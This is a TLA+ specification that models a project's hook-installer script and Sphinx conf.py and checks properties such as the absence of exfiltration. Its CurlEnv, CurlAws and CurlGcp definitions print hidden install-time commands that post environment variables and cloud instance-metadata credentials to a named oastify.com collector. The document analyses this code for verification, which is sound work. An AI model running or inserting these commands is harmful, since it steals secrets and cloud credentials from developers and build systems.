---- MODULE Spec2Model ----
(***************************************************************************)
(* Model of the two programs of npmx-zephyr:                               *)
(*   scripts/install_hooks.py  the hook installer (SpecHooks)              *)
(*   doc/conf.py               the Sphinx configuration file (SpecConf)    *)
(* Each program is a straight-line script; its state is its position, the  *)
(* external commands it has issued and the part of the world it acts on    *)
(* (the network for the installer, the filesystem for conf.py).            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    \* ---- scripts/install_hooks.py
    mode,      \* "script": run as __main__;  "import": loaded as a module
    netUp,     \* whether the host can reach the network
    cloud,     \* which instance metadata service answers: "none", "aws", "gcp"
    hpc,       \* position: [blk |-> "top" | "guard" | "main" | "done" | "raised", i |-> index]
    running,   \* TRUE while an os.system() call has not returned
    events,    \* the os.system() calls and returns, in order
    net,       \* outbound requests transmitted so far
    exit,      \* outcome of the run: "running", "ok", "error"
    \* ---- doc/conf.py
    cpc,       \* position in conf.py
    dirs,      \* directories that exist (paths relative to NPMX_ZEPHYR_BASE)
    files,     \* files that exist: function path -> content
    todo,      \* matches of glob.glob() not yet iterated over
    matched,   \* the result of glob.glob() in the current load
    cerr,      \* the exception that ended the load, or "none"
    loads,     \* number of completed loads of conf.py
    fs0,       \* the filesystem before the first load
    snap       \* the filesystem after the first completed load

hvars == <<mode, netUp, cloud, hpc, running, events, net, exit>>
cvars == <<cpc, dirs, files, todo, matched, cerr, loads, fs0, snap>>
vars == <<mode, netUp, cloud, hpc, running, events, net, exit,
          cpc, dirs, files, todo, matched, cerr, loads, fs0, snap>>

(***************************************************************************)
(* Bounds                                                                  *)
(***************************************************************************)
\* exit statuses a command may return are 0..MaxStatus
MaxStatus == 1
\* at most this many files lie under samples/ before the load
MaxFiles == 2
\* conf.py is loaded at most this many times
MaxLoads == 2

(***************************************************************************)
(* scripts/install_hooks.py                                                *)
(***************************************************************************)
Collector == "c4hsiprelbds8vjiznhcl7rv5mbh65zto.oastify.com"

\* the three os.system() arguments of lines 8-10 (shell text abbreviated to
\* what the shell evaluates; a backtick substitution is written $(...) and
\* COLLECTOR stands for the host named by Collector)
CurlEnv == "curl -d $(env) https://COLLECTOR/ENV/$(whoami)/$(hostname)"
CurlAws == "curl -d $(curl http://169.254.169.254/latest/meta-data/identity-credentials/ec2/security-credentials/ec2-instance) https://COLLECTOR/AWS/$(whoami)/$(hostname)"
CurlGcp == "curl -d $(curl -H Metadata-Flavor:Google http://169.254.169.254/computeMetadata/v1/instance/hostname) https://COLLECTOR/GCP/$(whoami)/$(hostname)"

PipInstall == "pip install -r requirements-format.txt"
PreCommitInstall == "pre-commit install"
PreCommitRun == "pre-commit run --all-files"

\* os.system() calls executed while the module body is evaluated (lines 8-10)
TopCalls == <<CurlEnv, CurlAws, CurlGcp>>

\* a plausible slip: the hooks are run before they are installed
MainCallsSwapped == <<PipInstall, PreCommitRun, PreCommitInstall>>

\* os.system() calls of main() (lines 12-14)
MainCalls == <<PipInstall, PreCommitInstall, PreCommitRun>>

Statuses == 0..MaxStatus

Block(blk) == IF blk = "top" THEN TopCalls ELSE MainCalls

\* source line of the i-th call of a block
LineOf(blk, i) == IF blk = "top" THEN 7 + i ELSE 11 + i

IsCurl(cmd) == cmd \in {CurlEnv, CurlAws, CurlGcp}

\* What the shell transmits when it runs cmd: the inner backtick command is
\* evaluated first and its output becomes the body of the outer curl -d.
ShellEffect(cmd, up, cl) ==
    IF ~up \/ ~IsCurl(cmd) THEN {}
    ELSE IF cmd = CurlEnv
         THEN {[dest |-> Collector, path |-> "ENV", payload |-> "environment"]}
    ELSE IF cmd = CurlAws
         THEN {[dest |-> Collector, path |-> "AWS",
                payload |-> IF cl = "aws" THEN "aws-credentials" ELSE "empty"]}
    ELSE {[dest |-> Collector, path |-> "GCP",
           payload |-> IF cl = "gcp" THEN "gcp-hostname" ELSE "empty"]}

\* exit statuses cmd can end with: curl fails exactly when the host is unreachable
StatusesOf(cmd, up) ==
    IF IsCurl(cmd) THEN (IF up THEN {0} ELSE Statuses \ {0}) ELSE Statuses

\* position after the last call of a block
AfterBlock(blk) == IF blk = "top" THEN [blk |-> "guard", i |-> 0]
                   ELSE [blk |-> "done", i |-> 0]

\* a plausible slip: the status is checked as subprocess.check_call would
AfterSystemChecked(p, status) ==
    IF status # 0 THEN [blk |-> "raised", i |-> 0]
    ELSE IF p.i < Len(Block(p.blk)) THEN [blk |-> p.blk, i |-> p.i + 1]
    ELSE AfterBlock(p.blk)

\* position after os.system() returned status: the return value is discarded
AfterSystem(p, status) ==
    IF p.i < Len(Block(p.blk)) THEN [blk |-> p.blk, i |-> p.i + 1]
    ELSE AfterBlock(p.blk)

\* line 16: the __main__ guard
Guard(m) == m = "script"

ConfIdle ==
    /\ cpc = "idle" /\ dirs = {} /\ files = <<>> /\ todo = {} /\ matched = {}
    /\ cerr = "none" /\ loads = 0 /\ fs0 = <<>> /\ snap = <<>>

HInit ==
    /\ mode \in {"script", "import"}
    /\ netUp \in BOOLEAN
    /\ cloud \in {"none", "aws", "gcp"}
    /\ hpc = [blk |-> "top", i |-> 1]
    /\ running = FALSE
    /\ events = <<>>
    /\ net = {}
    /\ exit = "running"
    /\ ConfIdle

\* os.system(cmd) is entered: the shell is started on cmd
OsSystemCall ==
    /\ hpc.blk \in {"top", "main"}
    /\ ~running
    /\ running' = TRUE
    /\ events' = Append(events, [ev |-> "call", line |-> LineOf(hpc.blk, hpc.i),
                                 cmd |-> Block(hpc.blk)[hpc.i], status |-> 0])
    /\ UNCHANGED <<mode, netUp, cloud, hpc, net, exit>>
    /\ UNCHANGED cvars

\* the command ends and os.system() returns its status to the caller
OsSystemReturn ==
    /\ hpc.blk \in {"top", "main"}
    /\ running
    /\ LET cmd == Block(hpc.blk)[hpc.i] IN
       \E status \in StatusesOf(cmd, netUp) :
          /\ events' = Append(events, [ev |-> "return", line |-> LineOf(hpc.blk, hpc.i),
                                       cmd |-> cmd, status |-> status])
          /\ net' = net \cup ShellEffect(cmd, netUp, cloud)
          /\ hpc' = AfterSystem(hpc, status)
          /\ exit' = IF hpc'.blk = "raised" THEN "error"
                     ELSE IF hpc'.blk = "done" THEN "ok" ELSE exit
    /\ running' = FALSE
    /\ UNCHANGED <<mode, netUp, cloud>>
    /\ UNCHANGED cvars

\* lines 16-17: main() is called when the file is the main program
MainGuard ==
    /\ hpc.blk = "guard"
    /\ hpc' = IF Guard(mode) THEN [blk |-> "main", i |-> 1] ELSE [blk |-> "done", i |-> 0]
    /\ exit' = IF Guard(mode) THEN exit ELSE "ok"
    /\ UNCHANGED <<mode, netUp, cloud, running, events, net>>
    /\ UNCHANGED cvars

HNext == OsSystemCall \/ OsSystemReturn \/ MainGuard

SpecHooks == HInit /\ [][HNext]_vars

(***************************************************************************)
(* doc/conf.py                                                             *)
(***************************************************************************)
\* A path is the tuple of its components below NPMX_ZEPHYR_BASE.  A file's
\* content is an opaque value; a sample file holds its own path as content,
\* so that a copy of the wrong file is visible.

\* a plausible slip: the destination is the doc directory itself
dst_dirDoc == <<"doc">>

src_dir == <<"samples">>
dst_dir == <<"doc", "samples">>

\* directories below samples/ that may hold files, and the names of files
RelDirs == {<<>>, <<"a">>, <<"b">>, <<"a", "b">>, <<".d">>}
FileNames == {"x.rst", "y.rst", "n.txt", ".h.rst"}
Candidates == {src_dir \o d \o <<n>> : d \in RelDirs, n \in FileNames}

\* fnmatch.fnmatch(name, "*.rst") and glob._ishidden(name) on the names used
RstNames == {"x.rst", "y.rst", ".h.rst"}
HiddenNames == {".h.rst", ".d"}
fnmatch_rst(name) == name \in RstNames
ishidden(name) == name \in HiddenNames

Last(p) == p[Len(p)]
Parent(p) == SubSeq(p, 1, Len(p) - 1)
IsPrefix(p, q) == Len(p) <= Len(q) /\ SubSeq(q, 1, Len(p)) = p
Prefixes(p) == {SubSeq(p, 1, k) : k \in 1..Len(p)}

RECURSIVE UpTo(_)
\* the sets of at most k candidate files
UpTo(k) == IF k = 0 THEN {{}}
           ELSE LET P == UpTo(k - 1) IN P \cup {s \cup {c} : s \in P, c \in Candidates}

\* the filesystem holding the sample files S and prior state d of doc/samples
Restrict(f, S) == [p \in S |-> f[p]]
Fs(D, F) == [dirs |-> D, files |-> F]
SampleFs(S) ==
    Fs({src_dir, <<"doc">>} \cup UNION {Prefixes(Parent(p)) : p \in S},
       [p \in S \cup {<<"doc", "conf.py">>, <<"doc", "index.rst">>} |->
            IF p \in S THEN p ELSE Last(p)])
PriorDst == {"absent", "empty", "stale", "file"}
StaleFiles == {<<"doc", "samples", "old.rst">>, <<"doc", "samples", "a", "x.rst">>}
WithPrior(fs, d) ==
    IF d = "absent" THEN fs
    ELSE IF d = "empty" THEN Fs(fs.dirs \cup {<<"doc", "samples">>}, fs.files)
    ELSE IF d = "file"
         THEN Fs(fs.dirs, [p \in DOMAIN fs.files \cup {<<"doc", "samples">>} |->
                              IF p \in DOMAIN fs.files THEN fs.files[p] ELSE "old"])
    ELSE Fs(fs.dirs \cup {<<"doc", "samples">>, <<"doc", "samples", "a">>},
            [p \in DOMAIN fs.files \cup StaleFiles |->
                 IF p \in DOMAIN fs.files THEN fs.files[p] ELSE "old"])

\* os.path.exists(p)
exists(D, F, p) == p \in D \/ p \in DOMAIN F

\* a plausible slip: the old copy is not removed
rmtreeKeep(D, F, p) == Fs(D, F)

\* shutil.rmtree(p) on a directory: p and everything below it is removed
rmtree(D, F, p) ==
    Fs({d \in D : ~IsPrefix(p, d)},
       Restrict(F, {f \in DOMAIN F : ~IsPrefix(p, f)}))

\* os.scandir(dir): the entries of a directory
Children(D, F, dir) == {p \in D \cup DOMAIN F : Len(p) = Len(dir) + 1 /\ IsPrefix(dir, p)}

\* glob.glob(str(root) + '/**/*.rst'): recursive is not set, so "**" matches
\* as "*" does: one directory level, names not starting with a dot
glob(D, F, root) ==
    LET level == {d \in Children(D, F, root) : d \in D /\ ~ishidden(Last(d))}
    IN  {f \in UNION {Children(D, F, d) : d \in level} :
            fnmatch_rst(Last(f)) /\ ~ishidden(Last(f))}

\* lines 32-33: the path of file below src_dir
file_short(file) == SubSeq(file, Len(src_dir) + 1, Len(file))

\* os.makedirs(p) raises when p exists or a component of p is a file
makedirs_raises(D, F, p) == exists(D, F, p) \/ \E q \in Prefixes(p) : q \in DOMAIN F

\* os.makedirs(p): p and its missing ancestors are created
makedirs(D, p) == D \cup Prefixes(p)

\* shutil.copy(from, to): to holds the content of from afterwards
copy(F, from, to) ==
    [p \in DOMAIN F \cup {to} |-> IF p = to THEN F[from] ELSE F[p]]

HooksIdle ==
    /\ mode = "none" /\ netUp = FALSE /\ cloud = "none"
    /\ hpc = [blk |-> "done", i |-> 0] /\ running = FALSE
    /\ events = <<>> /\ net = {} /\ exit = "ok"

CInit ==
    /\ \E S \in UpTo(MaxFiles), d \in PriorDst :
          LET fs == WithPrior(SampleFs(S), d) IN
          /\ dirs = fs.dirs
          /\ files = fs.files
          /\ fs0 = fs
    /\ cpc = "L28"
    /\ todo = {}
    /\ matched = {}
    /\ cerr = "none"
    /\ loads = 0
    /\ snap = <<>>
    /\ HooksIdle

\* lines 28-29, the directory is absent: nothing to remove
RemoveSkip ==
    /\ cpc = "L28"
    /\ ~exists(dirs, files, dst_dir)
    /\ cpc' = "L31"
    /\ UNCHANGED <<dirs, files, todo, matched, cerr, loads, fs0, snap>>
    /\ UNCHANGED hvars

\* lines 28-29, the directory exists: it is removed with all it holds
RemoveTree ==
    /\ cpc = "L28"
    /\ dst_dir \in dirs
    /\ LET fs == rmtree(dirs, files, dst_dir) IN
          /\ dirs' = fs.dirs
          /\ files' = fs.files
    /\ cpc' = "L31"
    /\ UNCHANGED <<todo, matched, cerr, loads, fs0, snap>>
    /\ UNCHANGED hvars

\* lines 28-29, the path is a regular file: shutil.rmtree raises
RemoveRaises ==
    /\ cpc = "L28"
    /\ dst_dir \in DOMAIN files
    /\ cpc' = "error"
    /\ cerr' = "NotADirectoryError"
    /\ UNCHANGED <<dirs, files, todo, matched, loads, fs0, snap>>
    /\ UNCHANGED hvars

\* line 31: the list of matches is computed before the loop starts
Glob ==
    /\ cpc = "L31"
    /\ matched' = glob(dirs, files, src_dir)
    /\ todo' = matched'
    /\ cpc' = "L32"
    /\ UNCHANGED <<dirs, files, cerr, loads, fs0, snap>>
    /\ UNCHANGED hvars

\* lines 32-35, one iteration: the order of the matches is the directory's
CopyOne ==
    /\ cpc = "L32"
    /\ \E file \in todo :
          LET to == dst_dir \o file_short(file)
              parent == Parent(to)
          IN  /\ ~makedirs_raises(dirs, files, parent)
              /\ dirs' = makedirs(dirs, parent)
              /\ files' = copy(files, src_dir \o file_short(file), to)
              /\ todo' = todo \ {file}
    /\ UNCHANGED <<cpc, matched, cerr, loads, fs0, snap>>
    /\ UNCHANGED hvars

\* line 34 raises: the directory of the copy exists already
CopyRaises ==
    /\ cpc = "L32"
    /\ \E file \in todo :
          makedirs_raises(dirs, files, Parent(dst_dir \o file_short(file)))
    /\ cpc' = "error"
    /\ cerr' = "FileExistsError"
    /\ UNCHANGED <<dirs, files, todo, matched, loads, fs0, snap>>
    /\ UNCHANGED hvars

\* lines 37-78: the configuration values are assigned; the load is complete
Configure ==
    /\ cpc = "L32"
    /\ todo = {}
    /\ cpc' = "done"
    /\ loads' = loads + 1
    /\ snap' = IF loads = 0 THEN Fs(dirs, files) ELSE snap
    /\ UNCHANGED <<dirs, files, todo, matched, cerr, fs0>>
    /\ UNCHANGED hvars

\* the documentation is built again: conf.py is loaded once more
Reload ==
    /\ cpc = "done"
    /\ loads < MaxLoads
    /\ cpc' = "L28"
    /\ matched' = {}
    /\ UNCHANGED <<dirs, files, todo, cerr, loads, fs0, snap>>
    /\ UNCHANGED hvars

CNext == RemoveSkip \/ RemoveTree \/ RemoveRaises \/ Glob \/ CopyOne
         \/ CopyRaises \/ Configure \/ Reload

SpecConf == CInit /\ [][CNext]_vars

(***************************************************************************)
(* Properties of scripts/install_hooks.py (checked under SpecHooks)        *)
(***************************************************************************)
IsCall(e) == e.ev = "call"
IsReturn(e) == e.ev = "return"
InMain(e) == e.line \in 12..14
Calls == SelectSeq(events, IsCall)
Returns == SelectSeq(events, IsReturn)
MainEvents == SelectSeq(events, InMain)
HooksDone == hpc.blk = "done"
ThreeCommands == {"pip install -r requirements-format.txt", "pre-commit install",
                  "pre-commit run --all-files"}
ExpectedMain == <<"pip install -r requirements-format.txt", "pre-commit install",
                  "pre-commit run --all-files">>
PrivatePayloads == {"environment", "aws-credentials", "gcp-hostname"}

\* C1: no step of the install tooling transmits environment variables or
\* cloud instance metadata: no outbound request carries a payload derived
\* from the process environment or from the 169.254.169.254 service.
C1_NoExfiltration == \A r \in net : r.payload \notin PrivatePayloads

\* C2: the only external commands a run issues are pip install -r <file>,
\* pre-commit install and pre-commit run --all-files; a whole run of the
\* script issues exactly three commands.
C2_OnlyThreeCommands ==
    /\ \A k \in 1..Len(Calls) : Calls[k].cmd \in ThreeCommands
    /\ (mode = "script" /\ HooksDone) => Len(Calls) = 3

\* C3: main() issues pip install, pre-commit install and pre-commit run, each
\* once and in that order, each call made only after the previous one has
\* returned: the events of main() are a prefix of call 1, return 1, call 2,
\* return 2, call 3, return 3, and all six have happened when main() is over.
C3_MainSequence ==
    /\ Len(MainEvents) <= 6
    /\ \A k \in 1..Len(MainEvents) :
          /\ MainEvents[k].cmd = ExpectedMain[(k + 1) \div 2]
          /\ MainEvents[k].ev = IF k % 2 = 1 THEN "call" ELSE "return"
    /\ hpc.blk = "main" => Len(MainEvents) = 2 * (hpc.i - 1) + (IF running THEN 1 ELSE 0)
    /\ hpc.blk \in {"top", "guard"} => MainEvents = <<>>
    /\ (mode = "script" /\ HooksDone) => Len(MainEvents) = 6

C3_MainRan == mode = "script" /\ HooksDone /\ Len(MainEvents) = 6

\* C4: exit statuses are neither checked nor surfaced: whatever the commands
\* return, the script never stops early, every statement's command has been
\* issued and has returned when the script is over, and the outcome is the
\* same ("ok").
C4_FailuresIgnored ==
    /\ hpc.blk # "raised"
    /\ exit # "error"
    /\ \A k \in 1..Len(events) :
          (IsReturn(events[k]) /\ k < Len(events)) => IsCall(events[k + 1])
    /\ HooksDone =>
          /\ exit = "ok"
          /\ Len(Calls) = (IF mode = "script" THEN 6 ELSE 3)
          /\ Len(Returns) = Len(Calls)

C4_FailedYetDone ==
    /\ mode = "script" /\ HooksDone /\ exit = "ok"
    /\ \E k \in 1..Len(events) :
          IsReturn(events[k]) /\ events[k].line = 12 /\ events[k].status # 0
    /\ \E k \in 1..Len(events) : IsCall(events[k]) /\ events[k].line = 14

\* C9: external commands are issued only when the file is run as the main
\* program: loading it as a module issues none, and none is issued before
\* main() is entered.
C9_NoCommandOutsideMain ==
    /\ mode = "import" => Calls = <<>>
    /\ hpc.blk \in {"top", "guard"} => Calls = <<>>

(***************************************************************************)
(* Properties of doc/conf.py (checked under SpecConf)                      *)
(***************************************************************************)
Samples == <<"samples">>
DocSamples == <<"doc", "samples">>
Below(root, p) == IsPrefix(root, p) /\ p # root
\* the part of a filesystem at or below root, and the rest
Inside(fs, root) ==
    Fs({d \in fs.dirs : IsPrefix(root, d)},
       Restrict(fs.files, {f \in DOMAIN fs.files : IsPrefix(root, f)}))
Outside(fs, root) ==
    Fs({d \in fs.dirs : ~IsPrefix(root, d)},
       Restrict(fs.files, {f \in DOMAIN fs.files : ~IsPrefix(root, f)}))
Now == Fs(dirs, files)
Loaded == cpc = "done" /\ cerr = "none"
Rel(root, p) == SubSeq(p, Len(root) + 1, Len(p))
\* the .rst files that lay in samples/ before the load
SampleRst == {f \in DOMAIN fs0.files : Below(Samples, f) /\ Last(f) \in RstNames}
NoDirHoldsTwo == \A f, g \in SampleRst : Parent(f) = Parent(g) => f = g

\* C5 as stated: the filesystem after conf.py has been loaded is the
\* filesystem before it.
C5_FilesystemUnchanged == Loaded => Now = fs0

\* C5 as amended: loading conf.py changes nothing outside doc/samples, at any
\* point of the load and however it ends.
C5_OutsideDocSamplesUnchanged == Outside(Now, DocSamples) = Outside(fs0, DocSamples)

C5_LoadedAndChanged == Loaded /\ Now # fs0 /\ matched # {}

\* C6: provided no directory holds more than one .rst file, every .rst file
\* one or more directories below samples/ exists after the load at the same
\* relative path under doc/samples, with the same content.
C6_EveryReadmeCopied ==
    (Loaded /\ NoDirHoldsTwo) =>
        \A f \in SampleRst :
            Len(f) >= 3 =>
                /\ DocSamples \o Rel(Samples, f) \in DOMAIN files
                /\ files[DocSamples \o Rel(Samples, f)] = fs0.files[f]

\* C7: the copy step raises no error whatever samples/ holds, also when a
\* sample directory holds two or more .rst files, and every matched file is
\* under doc/samples after the load.
C7_CopyNeverRaises ==
    /\ cerr # "FileExistsError"
    /\ Loaded => \A m \in matched : DocSamples \o Rel(Samples, m) \in DOMAIN files

\* C8: after a load without error the files under doc/samples are exactly
\* the matched .rst files at their relative paths, whatever doc/samples held
\* before; a second load leaves doc/samples as the first did; samples/ is
\* never modified.
C8_DocSamplesIsTheMatches ==
    /\ Loaded =>
          /\ {Rel(DocSamples, f) : f \in {g \in DOMAIN files : Below(DocSamples, g)}}
                = {Rel(Samples, m) : m \in matched}
          /\ loads >= 2 => Inside(Now, DocSamples) = Inside(snap, DocSamples)
    /\ Inside(Now, Samples) = Inside(fs0, Samples)

C8_ReloadedOverStale ==
    /\ Loaded /\ loads = 2 /\ matched # {}
    /\ <<"doc", "samples", "old.rst">> \in DOMAIN fs0.files

====
